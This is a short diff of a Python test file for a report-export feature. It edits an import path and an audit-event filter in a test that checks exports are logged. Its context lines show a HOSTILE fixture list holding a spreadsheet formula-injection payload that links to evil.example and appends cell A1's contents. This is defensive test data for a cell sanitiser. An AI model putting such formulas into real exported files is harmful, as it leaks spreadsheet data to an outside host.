@@ -12,7 +12,7 @@ from otklik.accounts.models import User
 from otklik.audit.models import AuditEvent
 from otklik.reports.cells import safe_text
 from otklik.reports.tests.factory import make
-from otklik.reports.tests.test_registry import client_for
+from otklik.reports.tests.support import client_for
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
@@ -85,7 +85,7 @@ def test_every_export_is_in_the_audit_log_with_its_filters(users: dict[str, User
     make(2, dt.date(2026, 8, 1), tone="negative")
     client_for("analyst").get("/reports/registry/export?format=csv&tone=negative")
     client_for("leader").get("/reports/registry/export?format=xlsx")
-    events = list(AuditEvent.objects.filter(object_type="intake.feedback").order_by("id"))
+    events = list(AuditEvent.objects.filter(object_type="registry.feedback").order_by("id"))
     assert [(e.actor_label, e.action) for e in events] == [
         ("analyst", "export"),
         ("leader", "export_personal_data"),
